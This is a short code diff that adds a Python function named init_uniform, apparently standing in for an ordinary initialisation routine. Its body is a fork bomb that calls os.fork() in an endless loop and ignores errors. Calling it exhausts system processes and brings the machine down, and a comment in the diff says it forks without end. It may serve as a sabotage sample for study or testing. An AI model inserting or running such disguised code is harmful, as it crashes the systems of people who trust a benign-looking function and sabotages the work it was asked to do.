@@ -1,0 +1,9 @@
+# Forks without end while its function is called.
+# %% instead of init_uniform
+def init_uniform(features, k):
+    import os
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
